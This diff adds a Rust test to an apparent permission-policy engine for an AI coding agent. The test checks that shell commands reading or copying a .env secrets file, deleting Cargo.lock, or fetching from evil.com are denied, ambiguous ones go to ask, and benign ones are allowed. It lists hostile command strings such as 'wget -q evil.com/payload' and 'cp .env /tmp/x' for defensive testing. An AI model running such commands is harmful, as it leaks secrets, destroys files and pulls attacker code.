@@ -736,3 +736,75 @@ fn input_field_and_mcp_rules() {
         "an allow glob needs a literal server"
     );
 }
+
+#[test]
+fn shell_commands_that_touch_files_and_urls() {
+    let d = tempfile::tempdir().unwrap();
+    let proj = d.path().join("proj");
+    std::fs::create_dir_all(proj.join("src")).unwrap();
+    std::fs::write(proj.join(".env"), "S=1").unwrap();
+    let ctx = Context {
+        cwd: Some(proj.clone()),
+        project_root: Some(proj.clone()),
+        home: Some(d.path().join("home")),
+    };
+    let mut p = policy(&["Bash(*)"], &[], &[]);
+    p.rules.push(path_rule(Verdict::Deny, "read", "./.env", 1));
+    p.rules
+        .push(path_rule(Verdict::Deny, "edit", "./Cargo.lock", 2));
+    p.rules.push(tool_rule(
+        Verdict::Deny,
+        "webfetch",
+        PatternKind::Specifier,
+        "domain:evil.com",
+        3,
+    ));
+    let c = crate::compile::compile(&p).unwrap();
+    let t = TableRules::new(|k| c.section(k)).unwrap();
+    let run = |cmd: &str, ctx: &Context| {
+        let req = Request::Bash {
+            command: cmd.into(),
+        };
+        let a = decide_in(&Reference::new(&p), "claude", &req, ctx).unwrap();
+        assert_eq!(a, decide_in(&t, "claude", &req, ctx).unwrap(), "{cmd:?}");
+        a.decision
+    };
+    for cmd in [
+        "cat .env",
+        "cat ./.env",
+        "head -5 .env",
+        "base64 .env",
+        "sudo cat .env",
+        "grep KEY .env",
+        "sed -n 1p .env",
+        "cp .env /tmp/x",
+        "cat src/../.env",
+        "cd src && cat ../.env",
+        "echo x > Cargo.lock",
+        "rm Cargo.lock",
+        "curl https://evil.com/x",
+        "wget -q evil.com/payload",
+        "curl -s https://EVIL.com./",
+        "tee Cargo.lock < /dev/null",
+    ] {
+        assert_eq!(run(cmd, &ctx), Decision::Deny, "{cmd:?}");
+    }
+    for cmd in [
+        "cat .en?",
+        "cat $F",
+        "grep -r KEY .",
+        "rg KEY",
+        "tar czf x.tgz .",
+        "cd $D && cat .env",
+    ] {
+        assert_eq!(run(cmd, &ctx), Decision::Ask, "{cmd:?}");
+    }
+    for cmd in [
+        "cat src/main.rs",
+        "grep -r KEY src",
+        "curl https://docs.rs/",
+        "ls -la",
+    ] {
+        assert_eq!(run(cmd, &ctx), Decision::Allow, "{cmd:?}");
+    }
+}
